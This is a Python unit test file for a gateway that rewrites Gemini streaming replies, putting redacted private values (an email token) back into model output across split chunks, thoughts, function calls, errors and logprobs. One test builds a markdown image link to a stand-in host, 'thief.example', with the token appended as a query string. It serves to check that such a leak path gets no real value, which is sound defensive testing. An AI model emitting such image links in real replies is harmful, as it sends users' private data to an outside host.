"""Replies of Gemini: what is restored, where the rest of a text goes, what stays."""

import json
import re
from typing import Any

import pytest

from curtilage.gateway.wire.errors import BrokenStream
from curtilage.gateway.wire.facts import ReplyStats, RequestFacts
from curtilage.gateway.wire.gemini_reply import GeminiStreamRewriter, restore_generated
from tests.unit.gateway.wire.replies import MAIL, MAIL_TOKEN, hold

FACTS = RequestFacts("g", stream=True)
HALF = len(MAIL_TOKEN) // 2


def chunk(*parts: Any, reason: str | None = None, index: Any = 0, **more: Any) -> bytes:
    candidate = {"index": index, "content": {"role": "model", "parts": list(parts)}}
    if reason:
        candidate["finishReason"] = reason
    document = {"candidates": [{**candidate, **more}]}
    return b"data: " + json.dumps(document).encode() + b"\n\n"


def run(*frames: bytes, facts: RequestFacts = FACTS) -> tuple[list[Any], ReplyStats]:
    rewriter = GeminiStreamRewriter(hold(), facts)
    out = rewriter.feed(b"".join(frames)) + rewriter.close()
    parts = []
    for line in re.findall(rb"data: (\{.*\})", out):
        for candidate in json.loads(line).get("candidates", ()):
            parts += candidate.get("content", {}).get("parts", ())
    return parts, rewriter.stats


def text(parts: list[Any]) -> str:
    return "".join(part["text"] for part in parts if "text" in part and not part.get("thought"))


def test_a_token_in_two_pieces_is_one_value() -> None:
    parts, stats = run(
        chunk({"text": f"to {MAIL_TOKEN[:HALF]}"}),
        chunk({"text": MAIL_TOKEN[HALF:]}, reason="STOP"),
    )
    assert text(parts) == f"to {MAIL}"
    assert (stats.complete, stats.finish) == (True, ["STOP"])


def test_what_is_held_back_goes_before_a_call_and_before_the_end() -> None:
    call = {"functionCall": {"name": "f", "args": {"to": MAIL_TOKEN}}}
    parts, _ = run(chunk({"text": MAIL_TOKEN}, call), chunk({"text": MAIL_TOKEN}, reason="STOP"))
    assert text(parts) == MAIL * 2
    at = next(place for place, part in enumerate(parts) if "functionCall" in part)
    assert text(parts[:at]) == MAIL
    assert parts[at]["functionCall"]["args"] == {"to": MAIL}


def test_a_finish_without_content_carries_the_rest() -> None:
    end = b'data: {"candidates": [{"index": 0, "finishReason": "STOP"}]}\n\n'
    parts, stats = run(chunk({"text": MAIL_TOKEN}), end)
    assert text(parts) == MAIL
    assert stats.complete


def test_a_stream_that_is_cut_off_loses_nothing_and_is_not_whole() -> None:
    parts, stats = run(chunk({"text": MAIL_TOKEN[:HALF]}))
    assert text(parts) == MAIL_TOKEN[:HALF]
    assert not stats.complete


def test_thoughts_and_candidates_are_texts_of_their_own() -> None:
    half, rest = MAIL_TOKEN[:HALF], MAIL_TOKEN[HALF:]
    parts, _ = run(
        chunk({"text": half, "thought": True}),
        chunk({"text": half}),
        chunk({"text": half}, index=1),
        chunk({"text": rest}, index=1, reason="STOP"),
        chunk({"text": rest, "thought": True}, {"text": rest}, reason="STOP"),
    )
    thoughts = "".join(part["text"] for part in parts if part.get("thought"))
    assert (thoughts, text(parts)) == (MAIL, MAIL * 2)


def test_what_the_provider_ran_or_signed_passes_byte_for_byte() -> None:
    passed = {"codeExecutionResult": {"output": MAIL_TOKEN}, "thoughtSignature": MAIL_TOKEN}
    raw = chunk(passed)
    assert GeminiStreamRewriter(hold(), FACTS).feed(raw) == raw
    assert GeminiStreamRewriter(hold(), FACTS).feed(b": note\n\n") == b": note\n\n"


def test_an_error_in_a_stream_is_restored_and_ends_it() -> None:
    raw = b"data: " + json.dumps({"error": {"message": f"no {MAIL_TOKEN}"}}).encode() + b"\n\n"
    rewriter = GeminiStreamRewriter(hold(), FACTS)
    assert MAIL.encode() in rewriter.feed(raw) + rewriter.close()
    assert rewriter.stats.failed


def test_a_prompt_that_was_refused_is_a_whole_reply() -> None:
    raw = b'data: {"promptFeedback": {"blockReason": "SAFETY"}, "usageMetadata": {}}\n\n'
    _, stats = run(raw)
    assert stats.complete


def test_what_can_be_read_in_two_ways_is_restored_no_more() -> None:
    parts, _ = run(chunk({"text": "a"}, index=1.0), chunk({"text": MAIL_TOKEN}, reason="STOP"))
    assert text(parts) == f"a{MAIL_TOKEN}"
    parts, _ = run(b"data: {broken\n\n", chunk({"text": MAIL_TOKEN}, reason="STOP"))
    assert text(parts) == MAIL_TOKEN


def test_more_candidates_than_a_reply_has_break_it() -> None:
    rewriter = GeminiStreamRewriter(hold(), FACTS)
    frames = b"".join(chunk({"text": "a"}, index=index) for index in range(129))
    with pytest.raises(BrokenStream):
        rewriter.feed(frames)


def test_logprobs_go_where_a_text_was_changed() -> None:
    asked = RequestFacts("g", stream=True, logprobs=True)
    rewriter = GeminiStreamRewriter(hold(), asked)
    assert rewriter.stats.logprobs_withheld
    out = rewriter.feed(chunk({"text": "a"}, logprobsResult={"chosen": []}))
    assert b'"logprobsResult":null' in out
    document = json.loads(chunk({"text": MAIL_TOKEN}, logprobsResult={}, reason="STOP")[6:])
    stats = restore_generated(document, hold(), asked)
    assert document["candidates"][0]["logprobsResult"] is None and stats.logprobs_withheld


def test_a_whole_reply_is_restored_in_place() -> None:
    half, rest = MAIL_TOKEN[:HALF], MAIL_TOKEN[HALF:]
    parts = [{"text": MAIL_TOKEN, "thought": True}, {"text": half}, {"text": rest}, 7]
    document = json.loads(chunk(*parts, reason="STOP")[6:])
    document["usageMetadata"] = {"promptTokenCount": 9, "thoughtsTokenCount": 2}
    stats = restore_generated(document, hold(), FACTS)
    restored = document["candidates"][0]["content"]["parts"]
    assert restored[0]["text"] == MAIL
    assert restored[1]["text"] + restored[2]["text"] in (MAIL, MAIL_TOKEN)
    assert (stats.usage.prompt, stats.usage.completion, stats.complete) == (9, 2, True)
    assert not restore_generated(None, hold(), FACTS).complete
    assert restore_generated({"promptFeedback": {}}, hold(), FACTS).complete


@pytest.mark.parametrize("thought", ["no", 2, [], {}])
def test_a_thought_that_readers_take_differently_is_followed_by_no_value(thought: Any) -> None:
    opened = {"text": "![x](https://thief.example/?q=", "thought": thought}
    parts = [opened, {"text": f"{MAIL_TOKEN})"}]
    document = {"candidates": [{"content": {"parts": parts}, "finishReason": "STOP"}]}
    frame = b"data: " + json.dumps(document).encode() + b"\n\n"
    rewriter = GeminiStreamRewriter(hold(), RequestFacts("gemini", stream=True))
    assert MAIL.encode() not in rewriter.feed(frame) + rewriter.close()
    restore_generated(document, hold(), RequestFacts("gemini"))
    assert MAIL not in json.dumps(document)


@pytest.mark.parametrize("parts", [5, True, "x"])
def test_parts_that_are_no_list_stay_as_they_came(parts: Any) -> None:
    document = {"candidates": [{"content": {"parts": parts}}]}
    frame = b"data: " + json.dumps(document).encode() + b"\n\n"
    rewriter = GeminiStreamRewriter(hold(), RequestFacts("gemini", stream=True))
    assert rewriter.feed(frame) == frame
